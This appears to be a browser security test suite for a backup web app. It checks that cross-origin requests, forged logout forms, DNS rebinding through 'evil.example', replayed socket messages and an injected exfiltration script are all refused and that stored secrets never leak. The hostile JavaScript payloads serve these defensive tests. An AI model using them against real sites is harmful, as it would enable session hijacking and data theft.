"""Attacks by other pages, other ports and old tabs, in a real browser and over raw sockets."""

import http.server
import json
import re
import socket
import sqlite3
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Playwright, expect

from tests.pages.gallery import CHROMIUM_ARGS
from tests.support.capabilities import chromium
from tests.support.program import Bucket, Program, Served, until
from tests.support.raw_socket import RawSocket
from tests.support.servers import RcloneS3, free_port

# a tab may be led there twice, by its own script and by the server: one of the two is aborted
SIGN_IN = re.compile(r"/login$")

pytestmark = pytest.mark.browser

MARKS = ("AKIAMARKERMARKER0002", "marker-secret-0002-never-shown")


@pytest.fixture(scope="module")
def twin() -> Iterator["Elsewhere"]:
    """Another user's web server, which had our port at ::1 before we came."""
    with listening_elsewhere("::1") as elsewhere:
        yield elsewhere


@pytest.fixture(scope="module")
def served(
    here: RcloneS3,
    elsewhere: RcloneS3,
    twin: "Elsewhere",
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Served]:
    """A server with a backup that a click would run."""
    source, destination = Bucket(here, "attacked"), Bucket(elsewhere, "attacked-copy")
    for bucket in (source, destination):
        bucket.server.client().create_bucket(Bucket=bucket.name)
    source.put("one.txt", b"one")
    program = Program(tmp_path_factory.mktemp("attacked"))
    program.backup(source, destination)
    yield program.serve(port=twin.port)
    program.end()


def signed_in(browser: Browser, served: Served) -> tuple[BrowserContext, Page]:
    context = browser.new_context(base_url=f"{served.home}/")
    page = context.new_page()
    page.goto(served.link)
    expect(page.get_by_text("Connected", exact=True)).to_be_visible()
    return context, page


def runs(served: Served) -> int:
    """How many runs there are, ended, under way or waiting."""
    with closing(sqlite3.connect(served.program.data_dir / "bucketvault.sqlite3")) as plain:
        return plain.execute("SELECT count(*) FROM backup_run").fetchone()[0]


# another page in the same browser


@dataclass
class Elsewhere:
    """Another user's web server on this machine, with one page."""

    port: int
    page: str = ""
    heard: list[str] = field(default_factory=list)  # every request, line and headers


@pytest.fixture
def hostile() -> Iterator[Elsewhere]:
    with listening_elsewhere() as elsewhere:
        yield elsewhere


@contextmanager
def listening_elsewhere(address: str = "127.0.0.1") -> Iterator[Elsewhere]:
    elsewhere = Elsewhere(0)

    class Server(http.server.ThreadingHTTPServer):
        address_family = socket.AF_INET6 if ":" in address else socket.AF_INET

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            elsewhere.heard.append(f"{self.requestline}\n{self.headers}")
            body = f"<!doctype html><title>hostile</title>{elsewhere.page}".encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    with Server((address, free_port()), Handler) as server:
        threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
        elsewhere.port = server.server_address[1]
        yield elsewhere
        server.shutdown()


HOSTILE = """
async (base) => {
  const told = {};
  const attempt = async (name, doing) => {
    try { told[name] = await doing(); } catch (error) { told[name] = "refused"; }
  };
  const post = {method: "POST", credentials: "include"};
  await attempt("post", async () => (await fetch(base + "/logout", post)).status);
  await attempt("blind post", async () =>
    (await fetch(base + "/logout", {...post, mode: "no-cors"})).type);
  await attempt("beacon", async () => navigator.sendBeacon(base + "/logout", "x"));
  await attempt("read", async () => (await fetch(base + "/", {credentials: "include"})).text());
  await attempt("log", async () => (await fetch(base + "/api/runs/1/log/raw")).text());
  await attempt("polling", async () =>
    (await fetch(base + "/_nicegui_ws/socket.io/?EIO=4&transport=polling",
                 {credentials: "include"})).text());
  await attempt("socket", () => new Promise((done) => {
    const address = "/_nicegui_ws/socket.io/?EIO=4&transport=websocket";
    const socket = new WebSocket(base.replace("http", "ws") + address);
    socket.onopen = () => done("open");
    socket.onerror = socket.onclose = () => done("refused");
  }));
  await attempt("script", () => new Promise((done) => {
    const script = document.createElement("script");
    script.onload = () => done("loaded");
    script.onerror = () => done("refused");
    script.src = base + "/assets/bucketvault.css";
    document.head.append(script);
  }));
  await attempt("frame", () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try { done(frame.contentDocument ? "empty" : "refused"); } catch { done("refused"); }
    };
    frame.src = base + "/";
    document.body.append(frame);
  }));
  return told;
}
"""


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_a_page_of_another_port_gets_nothing_and_changes_nothing(
    browser: Browser, served: Served, hostile: Elsewhere, name: str
) -> None:
    context, page = signed_in(browser, served)
    other = context.new_page()
    answers: list[tuple[str, int]] = []
    other.on("response", lambda answer: answers.append((answer.url, answer.status)))
    other.goto(f"http://{name}:{hostile.port}/")

    told = other.evaluate(HOSTILE, served.home)  # as if it knew where

    refused = {"post", "read", "log", "polling", "socket", "script", "frame"}
    assert {what for what, how in told.items() if how == "refused"} >= refused, told
    assert told["blind post"] in ("opaque", "refused")
    ours = {status for url, status in answers if url.startswith(served.base)}
    assert ours == {403}, answers
    framed = other.frames[1]
    assert not framed.locator("text=Backups").count()
    page.reload()  # nobody was signed out by any of it
    expect(page.get_by_text("Connected", exact=True)).to_be_visible()
    context.close()


def test_a_form_on_another_port_signs_nobody_out_and_nobody_in(
    browser: Browser, served: Served, hostile: Elsewhere
) -> None:
    context, page = signed_in(browser, served)
    other = context.new_page()
    hostile.page = f'<form method="post" action="{served.home}/logout"><button>x</button></form>'
    other.goto(f"http://localhost:{hostile.port}/")

    with other.expect_navigation() as posted:
        other.get_by_role("button").click()

    assert posted.value.status == 403
    expect(other.get_by_text("Request from another site")).to_be_visible()
    page.reload()
    expect(page.get_by_text("Connected", exact=True)).to_be_visible()
    context.close()


FILL = """(size) => {
  for (let n = 0; n < 200; n++) document.cookie = `c${size}-${n}=${"x".repeat(size)}; path=/`;
}"""


def test_another_port_is_sent_nothing_that_opens_anything(
    browser: Browser, served: Served, hostile: Elsewhere, twin: Elsewhere
) -> None:
    """Cookies are sent to every port of a host; another user may also hold what `localhost` is."""
    context, page = signed_in(browser, served)
    (cookie,) = [each for each in context.cookies() if each["httpOnly"]]
    other = context.new_page()
    places = [f"{name}:{hostile.port}" for name in ("127.0.0.1", "localhost")]
    for place in (*places, f"localhost:{served.port}", f"[::1]:{served.port}"):
        other.goto(f"http://{place}/run/1")
        expect(other).to_have_title("hostile")
    page.evaluate("address => { location = address }", f"http://{places[0]}/from-a-page")
    expect(page).to_have_title("hostile")  # led there by one of our pages: what a Referer says

    heard = hostile.heard + twin.heard
    assert len(heard) >= 5
    for secret in (cookie["value"], served.path):
        assert not [request for request in heard if secret in request]
    # a stolen cookie alone would open nothing, and another port cannot put one in our way
    stolen = {"Cookie": f"{cookie['name']}={cookie['value']}"}
    assert served.ask("/", headers=stolen, top=True).status == 401
    other.goto(f"http://{places[0]}/")
    other.evaluate("document.cookie = 'bucketvault=thrown; path=/'")
    page.goto(served.base)  # the bare address finds the way back in this browser alone
    expect(page.get_by_text("Connected", exact=True)).to_be_visible()
    assert page.url == f"{served.home}/"
    # nor can it sign anybody out by filling the jar
    for size in (10, 4000):
        other.evaluate(FILL, size)
        until("ours is out of the jar", lambda: cookie["value"] not in str(context.cookies()))
        page.goto("run/99")
        expect(page.get_by_role("heading", name="No such run")).to_be_visible()
        (now,) = [each["value"] for each in context.cookies() if each["httpOnly"]]
        assert now == cookie["value"]  # the same session, so open tabs stay signed in
    context.close()


def test_under_another_name_nothing_opens_and_nothing_can_be_clicked(
    playwright: Playwright, served: Served
) -> None:
    """DNS rebinding: a foreign name that leads to this machine."""
    before = runs(served)
    rules = [
        "--host-resolver-rules=MAP evil.example 127.0.0.1",
        "--disable-features=LocalNetworkAccessChecks",  # new browsers help; ours must do alone
    ]
    browser = playwright.chromium.launch(executable_path=chromium(), args=[*CHROMIUM_ARGS, *rules])
    context = browser.new_context()
    own = context.new_page()
    own.goto(served.link)
    expect(own.get_by_role("button", name="Run now").first).to_be_visible()
    page = context.new_page()
    base = f"http://evil.example:{served.port}"

    answer = page.goto(f"{base}/")
    assert answer is not None and answer.status == 403
    expect(page.get_by_text("Unknown host name")).to_be_visible()
    assert page.get_by_role("button").count() == 0
    # the attacker's own page under that name, loaded before the name was led here
    page.route(f"{base}/start", lambda route: route.fulfill(body="<h1>start</h1>"))
    page.goto(f"{base}/start")
    told = page.evaluate(
        """async (link) => {
          const of = async (path, how) => (await fetch(path, how)).status;
          const socket = new WebSocket(
            `ws://${location.host}/_nicegui_ws/socket.io/?EIO=4&transport=websocket`);
          const opened = await new Promise((done) => {
            socket.onopen = () => done("open");
            socket.onerror = () => done("refused");
          }).catch(() => "refused");
          return [await of("/login"), await of(link), await of("/logout", {method: "POST"}),
                  opened];
        }""",
        served.link.removeprefix(served.base),
    )
    browser.close()

    assert told == [403, 403, 403, "refused"]
    assert runs(served) == before


# a socket that knows what to say


def a_click_on_the_wire(page: Page, served: Served) -> list[str]:
    """The message on NiceGUI's socket when Run now is pressed: client id, element and all."""
    said: list[str] = []
    before = runs(served)
    page.on("websocket", lambda opened: opened.on("framesent", lambda f: said.append(str(f))))
    page.reload()
    expect(page.get_by_text("Connected", exact=True)).to_be_visible()
    said.clear()
    page.get_by_role("button", name="Run now: Photos").click()  # in the list, which stays as it is

    def clicked() -> list[str]:
        page.wait_for_timeout(50)  # lets Playwright hear what the browser says
        events = [text for text in said if text.startswith('42["event"')]
        return events if runs(served) > before else []

    return until("the click was sent, and heard", clicked)


def open_socket(served: Served) -> RawSocket:
    """A socket with a session, greeted as socket.io wants it."""
    raw = RawSocket(served, Cookie=served.cookie, Origin=served.base)
    assert raw.status == 101
    raw.say("40")
    until("socket.io greets", lambda: b"40" in raw.hears())
    return raw


def test_a_click_said_over_a_socket_counts_only_with_a_session_that_has_not_ended(
    browser: Browser, served: Served
) -> None:
    served.sign_in()
    context, page = signed_in(browser, served)
    before = runs(served)
    click = a_click_on_the_wire(page, served)
    until("the first run is over", lambda: has_ended(served, before + 1))

    for headers in ({}, {"Origin": served.base}, {"Origin": "http://evil.example"}):
        with RawSocket(served, **headers) as stranger:
            assert stranger.status in (401, 403)
    with open_socket(served) as raw:
        for words in click:  # the same, with a session: so they are the right ones
            raw.say(words)
        until("the second run is over", lambda: has_ended(served, before + 2))
    with open_socket(served) as raw:
        served.ask("/logout", method="POST", headers={"Origin": served.base})
        raw.say(click[0])
        until("the socket is over", raw.is_over)

    assert served.ask("/").status == 401
    assert runs(served) == before + 2
    context.close()


def has_ended(served: Served, number: int) -> bool:
    status = served.program.status()
    return runs(served) == number and not status["running"] + status["pending"]


def test_a_click_in_a_tab_that_was_signed_out_does_nothing(
    browser: Browser, served: Served
) -> None:
    context, page = signed_in(browser, served)
    before = runs(served)

    page.evaluate(
        """() => {
          const button = [...document.querySelectorAll("button")]
            .find((one) => one.textContent.includes("Run now"));
          fetch("logout", {method: "POST"}).then(() => button.click());
        }"""
    )

    expect(page).to_have_url(SIGN_IN)
    assert runs(served) == before
    context.close()


# what pages and sockets carry


INJECTED = """
async (there) => {
  const told = {cookie: document.cookie};
  const attempt = async (name, doing) => {
    try { told[name] = await doing(); } catch (error) { told[name] = "stopped"; }
  };
  const loads = (tag, fill) => () => new Promise((done) => {
    const made = document.createElement(tag);
    made.onload = () => done("loaded");
    made.onerror = () => done("stopped");
    Object.assign(made, fill);
    document.body.append(made);
    setTimeout(() => done("stopped"), 1000);
  });
  await attempt("fetch", async () => (await fetch(there + "/fetch", {mode: "no-cors"})).type);
  await attempt("beacon", async () => { navigator.sendBeacon(there + "/beacon", "x"); });
  await attempt("picture", loads("img", {src: there + "/picture"}));
  await attempt("script", loads("script", {src: there + "/script"}));
  await attempt("style", loads("link", {rel: "stylesheet", href: there + "/style"}));
  await attempt("prefetch", loads("link", {rel: "prefetch", href: there + "/prefetch"}));
  await attempt("frame", loads("iframe", {src: there + "/frame"}));
  await attempt("worker", async () => { new Worker(there + "/worker"); });
  await attempt("socket", () => new Promise((done) => {
    const socket = new WebSocket(there.replace("http", "ws") + "/socket");
    socket.onopen = () => done("open");
    socket.onerror = () => done("stopped");
  }));
  const form = Object.assign(document.createElement("form"), {action: there + "/form"});
  document.body.append(form);
  form.submit();
  await new Promise((done) => setTimeout(done, 500));
  return told;
}
"""


def test_a_script_in_our_pages_could_only_leave_by_going_elsewhere(
    browser: Browser, served: Served, hostile: Elsewhere
) -> None:
    """There is no way in for one. If there were, this is what the policy stops, and what not."""
    context, page = signed_in(browser, served)
    there = f"http://127.0.0.1:{hostile.port}"

    told = page.evaluate(
        """([code, there]) => new Promise((done) => {
          window.injectedIsDone = done;
          const script = document.createElement("script");
          script.text = `(${code})("${there}").then(window.injectedIsDone)`;
          document.body.append(script);
        })""",
        [INJECTED, there],
    )
    stopped = list(hostile.heard)
    page.evaluate("(there) => { location = there + '/went?' + document.title; }", there)
    until("it went there", lambda: any("GET /went?" in each for each in hostile.heard))

    assert told["cookie"] == ""
    assert stopped == []
    context.close()


def test_no_page_no_answer_and_no_socket_ever_carries_a_stored_secret(
    browser: Browser, bucketvault: Program
) -> None:
    done = bucketvault.apply(f"""
[[provider]]
name = "Marked"
provider_type = "amazon_s3"
endpoint = "http://127.0.0.1:9"
access_key_id = "{MARKS[0]}"
secret_access_key = "{MARKS[1]}"

[settings]
smtp_host = "127.0.0.1"
smtp_port = 9
smtp_security = "none"
smtp_user = "me"
smtp_password = "{MARKS[1]}"
mail_from = "a@example.com"
mail_to = "b@example.com"
""")
    assert done.code == 0, done
    served = bucketvault.serve()
    context = browser.new_context(base_url=f"{served.home}/")
    heard: list[str] = []
    page = context.new_page()
    page.on(
        "websocket",
        lambda opened: (
            opened.on("framesent", lambda frame: heard.append(str(frame))),
            opened.on("framereceived", lambda frame: heard.append(str(frame))),
        ),
    )
    page.on("response", lambda answer: _keep(answer, heard))
    page.goto(served.link)
    page.wait_for_load_state("networkidle")
    addresses = ["./", "providers", "providers/1", "providers/1/edit", "storages", "settings"]

    for address in addresses:
        page.goto(address)
        page.wait_for_load_state("networkidle")
    page.goto("providers/1")
    page.get_by_text("Marked").first.wait_for()

    everything = "\n".join([*heard, page.content()])
    assert "Marked" in everything and len(heard) > 20
    for mark in MARKS:
        assert mark not in everything and json.dumps(mark)[1:-1] not in everything
    served.end()
    out, err = served.process.communicate()
    assert not any(mark in out + err for mark in MARKS)
    context.close()


def _keep(answer: object, heard: list[str]) -> None:
    if answer.request.resource_type in ("document", "xhr", "fetch") and answer.status == 200:
        heard.append(answer.text())
